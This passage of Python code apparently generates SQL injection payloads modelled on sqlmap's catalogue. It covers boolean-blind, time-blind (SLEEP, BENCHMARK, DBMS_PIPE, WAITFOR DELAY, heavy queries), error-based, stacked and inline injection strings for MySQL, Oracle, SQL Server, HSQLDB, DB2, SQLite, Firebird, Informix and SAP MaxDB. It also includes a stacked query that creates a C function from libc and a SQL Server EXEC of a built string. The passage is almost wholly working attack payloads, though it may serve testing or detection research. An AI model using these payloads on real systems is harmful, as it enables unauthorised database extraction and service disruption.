         ";SELECT %s" % CW("(SELECT %d FROM SLEEP(%d))" % (R, SLEEP)) if vector else
         ";CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS '/lib/libc.so.6','sleep' language 'C' STRICT; SELECT sleep(%d)" % SLEEP, True),
        (IQ, "Generic inline queries", "generic", "repl", 3, "(SELECT CONCAT(CONCAT(%s,(%s)),%s))" % (q(delimiter(r)), QRY if vector else "CASE WHEN (%d=%d) THEN %s ELSE %s END" % (R1, R1, q("1"), q("0")), q(delimiter(r))), False),
        (IQ, "PostgreSQL inline queries", PG, "repl", 3, "(SELECT %s||(%s)::text||%s)" % (D1, QRY, D2), False),
    ]


def other_tests(r, vector, o, R, R1, R2, SLEEP, dbms):
    """Tests of sqlmap's catalogue for the DBMS dbms, as its payload files spell them."""
    INF = dialect_inference(r, dbms, o) if vector else r.choice(["%d=%d" % (R1, R1)] * 4 + ["%d=%d" % (R1, R2)])
    QRY = dialect_query(r, dbms, o, vector)
    S4, S4b = rstr(r), rstr(r)
    d1, d2 = delimiter(r), delimiter(r)
    if dbms == "MySQL":
        D1, D2 = (hx(d1), hx(d2)) if r.random() < 0.4 else (q(d1), q(d2))
        CAT = "CONCAT(%s,(%s),%s)" % (D1, QRY, D2)
        qs = "(SELECT %d FROM (SELECT(SLEEP(%s)))%s)" % (R, SLEEP if not vector else "%d-(IF(%s,0,%d))" % (SLEEP, INF, SLEEP), S4)
        sl = "SLEEP(%d)" % SLEEP if not vector else "SLEEP(%d-(IF(%s,0,%d)))" % (SLEEP, INF, SLEEP)
        heavy = "(SELECT COUNT(*) FROM INFORMATION_SCHEMA.COLUMNS A, INFORMATION_SCHEMA.COLUMNS B, INFORMATION_SCHEMA.COLUMNS C WHERE 0 XOR 1)"
        hv = heavy if not vector else "IF((%s),%s,%d)" % (INF, heavy, R)
        bm = "BENCHMARK(%d000000,MD5(%s))" % (SLEEP, hx(S4))
        out = [
            (B, "AND boolean-based blind - WHERE or HAVING clause (MySQL comment)", "cond", 1, "AND %s" % INF + HASH, True),
            (B, "OR boolean-based blind - WHERE or HAVING clause (MySQL comment)", "cond", 2, "OR %s" % INF + HASH, True),
            (B, "OR boolean-based blind - WHERE or HAVING clause (NOT - MySQL comment)", "cond", 1, "OR NOT %s" % INF + HASH, True),
            (B, "MySQL RLIKE boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause", "cond", 1, "RLIKE (SELECT (CASE WHEN (%s) THEN {orig} ELSE 0x28 END))" % INF, False),
            (B, "MySQL AND boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (MAKE_SET)", "cond", 1, "AND MAKE_SET(%s,%d)" % (INF, R), False),
            (B, "MySQL OR boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (MAKE_SET)", "cond", 2, "OR MAKE_SET(%s,%d)" % (INF, R), False),
            (B, "MySQL AND boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (ELT)", "cond", 1, "AND ELT(%s,%d)" % (INF, R), False),
            (B, "MySQL OR boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (ELT)", "cond", 2, "OR ELT(%s,%d)" % (INF, R), False),
            (B, "MySQL AND boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (EXTRACTVALUE)", "cond", 1, "AND EXTRACTVALUE(%d,CASE WHEN (%s) THEN %d ELSE 0x3A END)" % (R, INF, R), False),
            (B, "MySQL OR boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (EXTRACTVALUE)", "cond", 2, "OR EXTRACTVALUE(%d,CASE WHEN (%s) THEN %d ELSE 0x3A END)" % (R, INF, R), False),
            (B, "MySQL boolean-based blind - Parameter replace (MAKE_SET)", "repl", 3, "MAKE_SET(%s,%d)" % (INF, R), False),
            (B, "MySQL boolean-based blind - Parameter replace (MAKE_SET - original value)", "repl", 3, "MAKE_SET(%s,{orig})" % INF, False),
            (B, "MySQL boolean-based blind - Parameter replace (ELT)", "repl", 3, "ELT(%s,%d)" % (INF, R), False),
            (B, "MySQL boolean-based blind - Parameter replace (ELT - original value)", "repl", 3, "ELT(%s,{orig})" % INF, False),
            (B, "MySQL boolean-based blind - Parameter replace (bool*int)", "repl", 3, "(%s)*%d" % (INF, R), False),
            (B, "MySQL >= 5.0 boolean-based blind - ORDER BY, GROUP BY clause", "order", 1, ",(SELECT (CASE WHEN (%s) THEN 1 ELSE (SELECT %d UNION SELECT %d) END))" % (INF, R1, R2), False),
            (B, "MySQL >= 5.0 boolean-based blind - Stacked queries", "stack", 1, ";SELECT (CASE WHEN (%s) THEN %d ELSE %d*(SELECT %d UNION ALL SELECT %d) END)" % (INF, R, R, R, R1) + HASH, True),
            (TB, "MySQL >= 5.0.12 AND time-based blind (query SLEEP)", "cond", 1, "AND %s" % qs, False),
            (TB, "MySQL >= 5.0.12 AND time-based blind (query SLEEP - comment)", "cond", 1, "AND %s" % qs + HASH, True),
            (TB, "MySQL >= 5.0.12 OR time-based blind (query SLEEP)", "cond", 2, "OR %s" % qs, False),
            (TB, "MySQL >= 5.0.12 AND time-based blind (SLEEP)", "cond", 1, "AND %s" % sl, False),
            (TB, "MySQL >= 5.0.12 AND time-based blind (SLEEP - comment)", "cond", 1, "AND %s" % sl + HASH, True),
            (TB, "MySQL >= 5.0.12 OR time-based blind (SLEEP - comment)", "cond", 2, "OR %s" % sl + HASH, True),
            (TB, "MySQL >= 5.0.12 RLIKE time-based blind", "cond", 1, "RLIKE %s" % sl, False),
            (TB, "MySQL >= 5.0.12 RLIKE time-based blind (query SLEEP - comment)", "cond", 1, "RLIKE %s" % qs + HASH, True),
            (TB, "MySQL AND time-based blind (ELT)", "cond", 1, "AND ELT(%s,SLEEP(%d))" % (INF, SLEEP), False),
            (TB, "MySQL OR time-based blind (ELT - comment)", "cond", 2, "OR ELT(%s,SLEEP(%d))" % (INF, SLEEP) + HASH, True),
            (TB, "MySQL > 5.0.12 AND time-based blind (heavy query)", "cond", 1, "AND %d=%s" % (R, hv), False),
            (TB, "MySQL > 5.0.12 OR time-based blind (heavy query - comment)", "cond", 2, "OR %d=%s" % (R, hv) + HASH, True),
            (TB, "MySQL < 5.0.12 AND time-based blind (BENCHMARK)", "cond", 1, "AND %d=%s" % (R, bm if not vector else "IF((%s),%s,%d)" % (INF, bm, R)), False),
            (TB, "MySQL >= 5.0.12 time-based blind - Parameter replace (substraction)", "repl", 3, qs, False),
            (TB, "MySQL time-based blind - Parameter replace (MAKE_SET)", "repl", 3, "MAKE_SET(%s,SLEEP(%d))" % (INF, SLEEP), False),
            (TB, "MySQL time-based blind - Parameter replace (bool)", "repl", 3, "(%s AND SLEEP(%d))" % (INF, SLEEP), False),
            (TB, "MySQL >= 5.0.12 time-based blind - ORDER BY, GROUP BY clause", "order", 1, ",(SELECT (CASE WHEN (%s) THEN SLEEP(%d) ELSE %d END))" % (INF, SLEEP, R), False),
            (EB, "MySQL >= 5.1 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (EXTRACTVALUE)", "cond", 1, "AND EXTRACTVALUE(%d,CONCAT(0x5c,%s,(%s),%s))" % (R, D1, QRY, D2), False),
            (EB, "MySQL >= 5.1 OR error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (EXTRACTVALUE)", "cond", 2, "OR EXTRACTVALUE(%d,CONCAT(0x5c,%s,(%s),%s))" % (R, D1, QRY, D2), False),
            (EB, "MySQL >= 5.1 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (UPDATEXML)", "cond", 1, "AND UPDATEXML(%d,CONCAT(0x2e,%s,(%s),%s),%d)" % (R, D1, QRY, D2, R1), False),
            (EB, "MySQL >= 5.5 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (BIGINT UNSIGNED)", "cond", 1,
             "AND (SELECT 2*(IF((SELECT * FROM (SELECT %s)s), 8446744073709551610, 8446744073709551610)))" % CAT, False),
            (EB, "MySQL >= 5.5 OR error-based - WHERE or HAVING clause (EXP)", "cond", 2, "OR EXP(~(SELECT * FROM (SELECT CONCAT(%s,(%s),%s,0x78))x))" % (D1, QRY, D2), False),
            (EB, "MySQL >= 5.6 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (GTID_SUBSET)", "cond", 1, "AND GTID_SUBSET(%s,%d)" % (CAT, R), False),
            (EB, "MySQL >= 5.7.8 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (JSON_KEYS)", "cond", 1,
             "AND JSON_KEYS((SELECT CONVERT((SELECT %s) USING utf8)))" % CAT, False),
            (EB, "MySQL >= 4.1 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (FLOOR)", "cond", 1,
             "AND ROW(%d,%d)>(SELECT COUNT(*),CONCAT(%s,(%s),%s,FLOOR(RAND(0)*2))x FROM (SELECT %d UNION SELECT %d UNION SELECT %d UNION SELECT %d)a GROUP BY x)"
             % (R, R1, D1, QRY, D2, randnum(r), randnum(r), randnum(r), randnum(r)), False),
            (EB, "MySQL >= 5.0 error-based - Parameter replace (FLOOR)", "repl", 3,
             "(SELECT %d FROM(SELECT COUNT(*),CONCAT(%s,(%s),%s,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)" % (R, D1, QRY, D2), False),
            (EB, "MySQL >= 5.1 error-based - Parameter replace (EXTRACTVALUE)", "repl", 3, "(EXTRACTVALUE(%d,CONCAT(0x5c,%s,(%s),%s)))" % (R, D1, QRY, D2), False),
            (EB, "MySQL >= 5.5 error-based - ORDER BY, GROUP BY clause (EXP)", "order", 1, ",(SELECT %d FROM (SELECT EXP(~(SELECT * FROM (SELECT CONCAT(%s,(%s),%s,0x78))x)))s)" % (R, D1, QRY, D2), False),
            (EB, "MySQL >= 5.1 error-based - ORDER BY, GROUP BY clause (UPDATEXML)", "order", 1, ",UPDATEXML(%d,CONCAT(0x2e,%s,(%s),%s),%d)" % (R, D1, QRY, D2, R1), False),
            (SQ, "MySQL >= 5.0.12 stacked queries (comment)", "stack", 1, ";SELECT %s" % ("SLEEP(%d)" % SLEEP if not vector else "IF((%s),SLEEP(%d),%d)" % (INF, SLEEP, R)) + HASH, True),
            (SQ, "MySQL >= 5.0.12 stacked queries", "stack", 1, ";SELECT %s" % ("SLEEP(%d)" % SLEEP if not vector else "IF((%s),SLEEP(%d),%d)" % (INF, SLEEP, R)), False),
            (SQ, "MySQL >= 5.0.12 stacked queries (query SLEEP - comment)", "stack", 1, ";%s" % qs + HASH, True),
            (SQ, "MySQL < 5.0.12 stacked queries (BENCHMARK - comment)", "stack", 1, ";SELECT %s" % (bm if not vector else "IF((%s),%s,%d)" % (INF, bm, R)) + HASH, True),
            (IQ, "MySQL inline queries", "repl", 3, "(SELECT %s)" % CAT, False)]
    elif dbms == "Oracle":
        D1, D2 = chrs(d1), chrs(d2)
        pipe = "DBMS_PIPE.RECEIVE_MESSAGE(%s,%d)" % (chrs(S4), SLEEP)
        heavy = "(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3,ALL_USERS T4,ALL_USERS T5)"
        CWo = lambda then: "(CASE WHEN (%s) THEN %s ELSE %d END)" % (INF, then, R) if vector else then
        out = [
            (B, "Oracle OR boolean-based blind - WHERE or HAVING clause (CTXSYS.DRITHSX.SN)", "cond", 2,
             "OR %d=(SELECT (CASE WHEN (%s) THEN %d ELSE CTXSYS.DRITHSX.SN(1,%d) END) FROM DUAL)" % (R, INF, R, R), False),
            (B, "Oracle boolean-based blind - Parameter replace", "repl", 3, "(SELECT (CASE WHEN (%s) THEN %d ELSE CAST(1 AS INT)/(SELECT 0 FROM DUAL) END) FROM DUAL)" % (INF, R), False),
            (B, "Oracle boolean-based blind - Parameter replace (original value)", "repl", 3, "(SELECT (CASE WHEN (%s) THEN {orig} ELSE CAST(1 AS INT)/(SELECT 0 FROM DUAL) END) FROM DUAL)" % INF, False),
            (B, "Oracle boolean-based blind - ORDER BY, GROUP BY clause", "order", 1, ",(SELECT (CASE WHEN (%s) THEN 1 ELSE CAST(1 AS INT)/(SELECT 0 FROM DUAL) END) FROM DUAL)" % INF, False),
            (B, "Oracle boolean-based blind - Stacked queries", "stack", 1, ";SELECT (CASE WHEN (%s) THEN %d ELSE CAST(1 AS INT)/(SELECT 0 FROM DUAL) END) FROM DUAL" % (INF, R), True),
            (TB, "Oracle AND time-based blind", "cond", 1, "AND %d=%s" % (R, CWo(pipe)), False),
            (TB, "Oracle AND time-based blind (comment)", "cond", 1, "AND %d=%s" % (R, CWo(pipe)), True),
            (TB, "Oracle OR time-based blind", "cond", 2, "OR %d=%s" % (R, CWo(pipe)), False),
            (TB, "Oracle OR time-based blind (comment)", "cond", 2, "OR %d=%s" % (R, CWo(pipe)), True),
            (TB, "Oracle AND time-based blind (heavy query - comment)", "cond", 1, "AND %d=%s" % (R, CWo(heavy)), True),
            (TB, "Oracle OR time-based blind (heavy query)", "cond", 2, "OR %d=%s" % (R, CWo(heavy)), False),
            (TB, "Oracle time-based blind - Parameter replace (DBMS_PIPE.RECEIVE_MESSAGE)", "repl", 3, "(SELECT (CASE WHEN (%s) THEN %s ELSE %d END) FROM DUAL)" % (INF, pipe, R), False),
            (TB, "Oracle time-based blind - Parameter replace (heavy queries)", "repl", 3, "(SELECT (CASE WHEN (%s) THEN %s ELSE %d END) FROM DUAL)" % (INF, heavy, R), False),
            (TB, "Oracle time-based blind - Parameter replace (DBMS_SESSION.SLEEP)", "repl", 3, "BEGIN IF (%s) THEN DBMS_SESSION.SLEEP(%d); ELSE DBMS_SESSION.SLEEP(0); END IF; END;" % (INF, SLEEP), False),
            (TB, "Oracle time-based blind - ORDER BY, GROUP BY clause (DBMS_PIPE.RECEIVE_MESSAGE)", "order", 1, ",(SELECT (CASE WHEN (%s) THEN %s ELSE %d END) FROM DUAL)" % (INF, pipe, R), False),
            (TB, "Oracle time-based blind - ORDER BY, GROUP BY clause (heavy query)", "order", 1, ",(SELECT (CASE WHEN (%s) THEN %s ELSE %d END) FROM DUAL)" % (INF, heavy, R), False),
            (EB, "Oracle AND error-based - WHERE or HAVING clause (XMLType)", "cond", 1,
             "AND %d=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||%s||(REPLACE(REPLACE(REPLACE(REPLACE((%s),CHR(32),CHR(113)),CHR(36),CHR(113)),CHR(64),CHR(113)),CHR(35),CHR(113)))||%s||CHR(62))) FROM DUAL)" % (R, D1, QRY, D2), False),
            (EB, "Oracle AND error-based - WHERE or HAVING clause (UTL_INADDR.GET_HOST_ADDRESS)", "cond", 1, "AND %d=UTL_INADDR.GET_HOST_ADDRESS(%s||(%s)||%s)" % (R, D1, QRY, D2), False),
            (EB, "Oracle OR error-based - WHERE or HAVING clause (UTL_INADDR.GET_HOST_ADDRESS)", "cond", 2, "OR %d=UTL_INADDR.GET_HOST_ADDRESS(%s||(%s)||%s)" % (R, D1, QRY, D2), False),
            (EB, "Oracle AND error-based - WHERE or HAVING clause (CTXSYS.DRITHSX.SN)", "cond", 1, "AND %d=CTXSYS.DRITHSX.SN(%d,(%s||(%s)||%s))" % (R, R, D1, QRY, D2), False),
            (EB, "Oracle OR error-based - WHERE or HAVING clause (CTXSYS.DRITHSX.SN)", "cond", 2, "OR %d=CTXSYS.DRITHSX.SN(%d,(%s||(%s)||%s))" % (R, R, D1, QRY, D2), False),
            (EB, "Oracle AND error-based - WHERE or HAVING clause (DBMS_UTILITY.SQLID_TO_SQLHASH)", "cond", 1, "AND %d=DBMS_UTILITY.SQLID_TO_SQLHASH((%s||(%s)||%s))" % (R, D1, QRY, D2), False),
            (EB, "Oracle error-based - Parameter replace", "repl", 3, "(SELECT UPPER(XMLType(CHR(60)||CHR(58)||%s||(%s)||%s||CHR(62))) FROM DUAL)" % (D1, QRY, D2), False),
            (EB, "Oracle error-based - ORDER BY, GROUP BY clause", "order", 1, ",(SELECT UPPER(XMLType(CHR(60)||CHR(58)||%s||(%s)||%s||CHR(62))) FROM DUAL)" % (D1, QRY, D2), False),
            (SQ, "Oracle stacked queries (DBMS_PIPE.RECEIVE_MESSAGE - comment)", "stack", 1, ";SELECT %s FROM DUAL" % CWo(pipe), True),
            (SQ, "Oracle stacked queries (DBMS_PIPE.RECEIVE_MESSAGE)", "stack", 1, ";SELECT %s FROM DUAL" % CWo(pipe), False),
            (SQ, "Oracle stacked queries (DBMS_LOCK.SLEEP - comment)", "stack", 1, ";BEGIN DBMS_LOCK.SLEEP(%d); END" % SLEEP, True),
            (SQ, "Oracle stacked queries (USER_LOCK.SLEEP)", "stack", 1, ";BEGIN USER_LOCK.SLEEP(%d); END" % (SLEEP * 100), False),
            (SQ, "Oracle stacked queries (heavy query)", "stack", 1, ";SELECT %s FROM DUAL" % CWo(heavy), False),
            (IQ, "Oracle inline queries", "repl", 3, "(SELECT %s||(%s)||%s FROM DUAL)" % (D1, QRY, D2), False)]
    elif dbms == "Microsoft SQL Server":
        D1, D2 = q(d1), q(d2)
        heavy = "(SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2,sysusers AS sys3,sysusers AS sys4,sysusers AS sys5,sysusers AS sys6,sysusers AS sys7)"
        CWm = lambda then: "(SELECT (CASE WHEN (%s) THEN %s ELSE %d END))" % (INF, then, R) if vector else then
        V = "@" + rstr(r)
        out = [
            (B, "Microsoft SQL Server/Sybase boolean-based blind - Parameter replace (original value)", "repl", 3,
             "(SELECT (CASE WHEN (%s) THEN {orig} ELSE %d*(SELECT %d UNION ALL SELECT %d) END))" % (INF, R, R, R1), False),
            (B, "Microsoft SQL Server/Sybase boolean-based blind - ORDER BY clause", "order", 1, ",(SELECT (CASE WHEN (%s) THEN 1 ELSE %d*(SELECT %d UNION ALL SELECT %d) END))" % (INF, R, R, R1), False),
            (B, "Microsoft SQL Server/Sybase boolean-based blind - Stacked queries", "stack", 1, ";IF(%s) SELECT %d ELSE DROP FUNCTION %s" % (INF, R, S4), True),
            (TB, "Microsoft SQL Server/Sybase AND time-based blind (heavy query)", "cond", 1, "AND %d=%s" % (R, CWm(heavy)), False),
            (TB, "Microsoft SQL Server/Sybase AND time-based blind (heavy query - comment)", "cond", 1, "AND %d=%s" % (R, CWm(heavy)), True),
            (TB, "Microsoft SQL Server/Sybase OR time-based blind (heavy query)", "cond", 2, "OR %d=%s" % (R, CWm(heavy)), False),
            (TB, "Microsoft SQL Server/Sybase time-based blind (IF)", "stack", 1, ";IF(%s) WAITFOR DELAY '0:0:%d'" % (INF, SLEEP), False),
            (TB, "Microsoft SQL Server/Sybase time-based blind - Parameter replace (heavy queries)", "repl", 3, "(SELECT (CASE WHEN (%s) THEN %s ELSE %d END))" % (INF, heavy, R), False),
            (TB, "Microsoft SQL Server/Sybase time-based blind - ORDER BY clause (heavy query)", "order", 1, ",(SELECT (CASE WHEN (%s) THEN %s ELSE %d END))" % (INF, heavy, R), False),
            (EB, "Microsoft SQL Server/Sybase AND error-based - WHERE or HAVING clause (IN)", "cond", 1, "AND %d IN (SELECT (%s+(%s)+%s))" % (R, D1, QRY, D2), False),
            (EB, "Microsoft SQL Server/Sybase OR error-based - WHERE or HAVING clause (IN)", "cond", 2, "OR %d IN (SELECT (%s+(%s)+%s))" % (R, D1, QRY, D2), False),
            (EB, "Microsoft SQL Server/Sybase AND error-based - WHERE or HAVING clause (CONVERT)", "cond", 1, "AND %d=CONVERT(INT,(SELECT %s+(%s)+%s))" % (R, D1, QRY, D2), False),
            (EB, "Microsoft SQL Server/Sybase OR error-based - WHERE or HAVING clause (CONCAT)", "cond", 2, "OR %d=CONCAT(%s,(%s),%s)" % (R, D1, QRY, D2), False),
            (EB, "Microsoft SQL Server/Sybase error-based - Parameter replace", "repl", 3, "(CONVERT(INT,(SELECT %s+(%s)+%s)))" % (D1, QRY, D2), False),
            (EB, "Microsoft SQL Server/Sybase error-based - Parameter replace (integer column)", "repl", 3, "(SELECT %s+(%s)+%s)" % (D1, QRY, D2), False),
            (EB, "Microsoft SQL Server/Sybase error-based - Stacking (EXEC)", "stack", 1, ";DECLARE %s NVARCHAR(4000);SET %s=(SELECT %s+(%s)+%s);EXEC %s" % (V, V, D1, QRY, D2, V), True),
            (SQ, "Microsoft SQL Server/Sybase stacked queries (comment)", "stack", 1, ";%sWAITFOR DELAY '0:0:%d'" % ("IF(%s) " % INF if vector else "", SLEEP), True),
            (SQ, "Microsoft SQL Server/Sybase stacked queries", "stack", 1, ";%sWAITFOR DELAY '0:0:%d'" % ("IF(%s) " % INF if vector else "", SLEEP), False),
            (SQ, "Microsoft SQL Server/Sybase stacked queries (DECLARE - comment)", "stack", 1,
             ";DECLARE @x CHAR(9);SET @x=0x303a303a3%d;%sWAITFOR DELAY @x" % (SLEEP % 10, "IF(%s) " % INF if vector else ""), True),
            (SQ, "Microsoft SQL Server/Sybase stacked queries (DECLARE - no semicolon)", "stack", 1,
             " DECLARE @x CHAR(9) SET @x=0x303a303a3%d %sWAITFOR DELAY @x" % (SLEEP % 10, "IF(%s) " % INF if vector else ""), True),
            (IQ, "Microsoft SQL Server/Sybase inline queries", "repl", 3, "(SELECT %s+(%s)+%s)" % (D1, QRY, D2), False)]
    else:
        D1, D2 = q(d1), q(d2)
        out = []
        if dbms == "HSQLDB":
            h1 = "REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(%d),0),%d00000000),NULL)" % (R, SLEEP)
            h2 = "REGEXP_SUBSTRING(REPEAT(LEFT(CRYPT_KEY(%s,NULL),0),%d00000000),NULL)" % (q("AES"), SLEEP)
            out = [(TB, "HSQLDB >= 1.7.2 AND time-based blind (heavy query)", "cond", 1, "AND CHAR(%d)=%s" % (R, h1), False),
                   (TB, "HSQLDB >= 1.7.2 OR time-based blind (heavy query - comment)", "cond", 2, "OR CHAR(%d)=%s" % (R, h1), True),
                   (TB, "HSQLDB > 2.0 AND time-based blind (heavy query)", "cond", 1, "AND %s=%s" % (q(S4), h2), False),
                   (TB, "HSQLDB > 2.0 OR time-based blind (heavy query - comment)", "cond", 2, "OR %s=%s" % (q(S4), h2), True),
                   (TB, "HSQLDB > 2.0 time-based blind - Parameter replace (heavy query)", "repl", 3, "(SELECT (CASE WHEN (%s) THEN %s ELSE %s END) FROM (VALUES(0)))" % (INF, h2, q(S4b)), False),
                   (TB, "HSQLDB >= 1.7.2 time-based blind - ORDER BY, GROUP BY clause (heavy query)", "order", 1,
                    ",(SELECT (CASE WHEN (%s) THEN (ASCII(%s)) ELSE %d/(SELECT 0 FROM INFORMATION_SCHEMA.SYSTEM_USERS) END) FROM INFORMATION_SCHEMA.SYSTEM_USERS)" % (INF, h1, R), False),
                   (SQ, "HSQLDB >= 1.7.2 stacked queries (heavy query - comment)", "stack", 1, ";CALL %s" % h1, True),
                   (SQ, "HSQLDB >= 2.0 stacked queries (heavy query)", "stack", 1, ";CALL %s" % h2, False)]
        elif dbms == "IBM DB2":
            heavy = "(SELECT COUNT(*) FROM SYSIBM.SYSTABLES AS T1,SYSIBM.SYSTABLES AS T2,SYSIBM.SYSTABLES AS T3)"
            CWd = lambda then: "(CASE WHEN (%s) THEN %s ELSE %d END)" % (INF, then, R) if vector else then
            out = [(B, "IBM DB2 boolean-based blind - ORDER BY clause", "order", 1, ",(SELECT CASE WHEN %s THEN 1 ELSE RAISE_ERROR(70001, %s) END FROM SYSIBM.SYSDUMMY1)" % (INF, q(S4)), False),
                   (B, "IBM DB2 boolean-based blind - ORDER BY clause (original value)", "order", 1, ",(SELECT CASE WHEN %s THEN {orig} ELSE RAISE_ERROR(70001, %s) END FROM SYSIBM.SYSDUMMY1)" % (INF, q(S4)), False),
                   (TB, "IBM DB2 AND time-based blind (heavy query)", "cond", 1, "AND %d=%s" % (R, CWd(heavy)), False),
                   (TB, "IBM DB2 OR time-based blind (heavy query)", "cond", 2, "OR %d=%s" % (R, CWd(heavy)), False),
                   (TB, "IBM DB2 time-based blind - Parameter replace (heavy query)", "repl", 3, CWd(heavy), False),
                   (EB, "IBM DB2 OR error-based - WHERE or HAVING clause", "cond", 2, "OR %d=RAISE_ERROR(%s,%s||(%s)||%s)" % (R, q("70001"), D1, QRY, D2), False),
                   (EB, "IBM DB2 error-based - ORDER BY clause", "order", 1, ",RAISE_ERROR(%s,%s||(%s)||%s)" % (q("70001"), D1, QRY, D2), False),
                   (EB, "IBM DB2 error-based - Parameter replace", "repl", 3, "RAISE_ERROR(%s,%s||(%s)||%s)" % (q("70001"), D1, QRY, D2), False),
                   (SQ, "IBM DB2 stacked queries (heavy query - comment)", "stack", 1, ";SELECT %s" % (CWd(heavy)[1:-1] if not vector else CWd(heavy)), True),
                   (SQ, "IBM DB2 stacked queries (heavy query)", "stack", 1, ";SELECT %s" % (CWd(heavy)[1:-1] if not vector else CWd(heavy)), False)]
        elif dbms == "SQLite":
            hv = "LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(%d00000000/2))))" % SLEEP
            out = [(B, "SQLite AND boolean-based blind - WHERE or HAVING clause (JSON)", "cond", 1, "AND CASE WHEN %s THEN %d ELSE JSON(CHAR(%d)) END" % (INF, R, r.randint(65, 90)), False),
                   (B, "SQLite OR boolean-based blind - WHERE or HAVING clause (JSON)", "cond", 2, "OR CASE WHEN %s THEN %d ELSE JSON(CHAR(%d)) END" % (INF, R, r.randint(65, 90)), False),
                   (TB, "SQLite > 2.0 AND time-based blind (heavy query)", "cond", 1, "AND %d=%s" % (R, hv if not vector else "(CASE WHEN (%s) THEN (%s) ELSE %d END)" % (INF, hv, R)), False),
                   (TB, "SQLite > 2.0 OR time-based blind (heavy query - comment)", "cond", 2, "OR %d=%s" % (R, hv if not vector else "(CASE WHEN (%s) THEN (%s) ELSE %d END)" % (INF, hv, R)), True),
                   (TB, "SQLite > 2.0 time-based blind - Parameter replace (heavy query)", "repl", 3, "(SELECT %s)" % (hv if not vector else "(CASE WHEN (%s) THEN (%s) ELSE %d END)" % (INF, hv, R)), False),
                   (SQ, "SQLite > 2.0 stacked queries (heavy query - comment)", "stack", 1, ";SELECT %s" % (hv if not vector else "(CASE WHEN (%s) THEN (%s) ELSE %d END)" % (INF, hv, R)), True)]
        elif dbms == "Firebird":
            heavy = "(SELECT COUNT(*) FROM RDB$FIELDS AS T1,RDB$TYPES AS T2,RDB$COLLATIONS AS T3,RDB$FUNCTIONS AS T4)"
            hv = heavy if not vector else "IIF((%s),%s,%d)" % (INF, heavy, R)
            out = [(TB, "Firebird >= 2.0 AND time-based blind (heavy query)", "cond", 1, "AND %d=%s" % (R, hv), False),
                   (TB, "Firebird >= 2.0 OR time-based blind (heavy query - comment)", "cond", 2, "OR %d=%s" % (R, hv), True),
                   (TB, "Firebird time-based blind - Parameter replace (heavy query)", "repl", 3, hv if vector else heavy, False),
                   (EB, "Firebird AND error-based - WHERE or HAVING clause", "cond", 1, "AND %d=(%s||(%s)||%s)" % (R, D1, QRY, D2), False),
                   (EB, "Firebird OR error-based - WHERE or HAVING clause", "cond", 2, "OR %d=(%s||(%s)||%s)" % (R, D1, QRY, D2), False),
                   (EB, "Firebird error-based - Parameter replace", "repl", 3, "(SELECT %s||(%s)||%s FROM RDB$DATABASE)" % (D1, QRY, D2), False),
                   (EB, "Firebird error-based - ORDER BY clause", "order", 1, ",(SELECT %d FROM RDB$DATABASE WHERE %d=(%s||(%s)||%s))" % (R, R, D1, QRY, D2), False),
                   (SQ, "Firebird stacked queries (heavy query)", "stack", 1, ";SELECT %s FROM RDB$DATABASE" % hv, False),
                   (IQ, "Firebird inline queries", "repl", 3, "(SELECT %s||(%s)||%s FROM RDB$DATABASE)" % (D1, QRY, D2), False)]
        elif dbms == "Informix":
            heavy = "(SELECT COUNT(*) FROM SYSMASTER:SYSPAGHDR)"
            hv = heavy if not vector else "(CASE WHEN (%s) THEN %s ELSE %d END)" % (INF, heavy, R)
            out = [(B, "Informix boolean-based blind - Parameter replace", "repl", 3, "(SELECT (CASE WHEN (%s) THEN %d ELSE 1/0 END) FROM SYSMASTER:SYSDUAL)" % (INF, R), False),
                   (B, "Informix boolean-based blind - Parameter replace (original value)", "repl", 3, "(SELECT (CASE WHEN (%s) THEN {orig} ELSE 1/0 END) FROM SYSMASTER:SYSDUAL)" % INF, False),
                   (TB, "Informix AND time-based blind (heavy query)", "cond", 1, "AND %d=%s" % (R, hv), False),
                   (TB, "Informix AND time-based blind (heavy query - comment)", "cond", 1, "AND %d=%s" % (R, hv), True),
                   (TB, "Informix OR time-based blind (heavy query - comment)", "cond", 2, "OR %d=%s" % (R, hv), True),
                   (TB, "Informix time-based blind - Parameter replace (heavy query)", "repl", 3, hv, False)]
        elif dbms == "SAP MaxDB":
            heavy = "(SELECT COUNT(*) FROM DOMAIN.DOMAINS AS T1,DOMAIN.COLUMNS AS T2,DOMAIN.TABLES AS T3)"
            out = [(B, "SAP MaxDB boolean-based blind - ORDER BY, GROUP BY clause", "order", 1, ",(CASE WHEN %s THEN 1 ELSE NULL END)" % INF, False),
                   (B, "SAP MaxDB boolean-based blind - ORDER BY, GROUP BY clause (original value)", "order", 1, ",(CASE WHEN %s THEN {orig} ELSE NULL END)" % INF, False),
                   (B, "SAP MaxDB boolean-based blind - Stacked queries", "stack", 1, ";SELECT CASE WHEN %s THEN 1 ELSE NULL END" % INF, True),
                   (TB, "SAP MaxDB AND time-based blind (heavy query)", "cond", 1, "AND %d=%s" % (R, heavy), False),
                   (TB, "SAP MaxDB OR time-based blind (heavy query - comment)", "cond", 2, "OR %d=%s" % (R, heavy), True),
                   (TB, "SAP MaxDB time-based blind - Parameter replace (heavy query)", "repl", 3, heavy, False),
                   (SQ, "SAP MaxDB stacked queries (heavy query)", "stack", 1, ";SELECT %s" % heavy[1:-1], False),
